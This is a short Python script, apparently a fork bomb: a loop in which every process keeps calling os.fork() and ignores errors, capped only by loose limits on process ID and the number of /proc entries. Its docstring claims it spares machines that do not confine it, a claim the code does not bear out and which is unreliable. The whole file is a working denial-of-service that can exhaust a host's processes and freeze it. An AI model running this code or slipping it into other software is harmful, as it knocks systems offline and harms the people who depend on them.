"""Forks, and every child forks. It spares a machine that does not confine it."""

import os

while os.getpid() < 100_000 and len(os.listdir("/proc")) < 2_000:
    try:
        os.fork()
    except OSError:
        pass
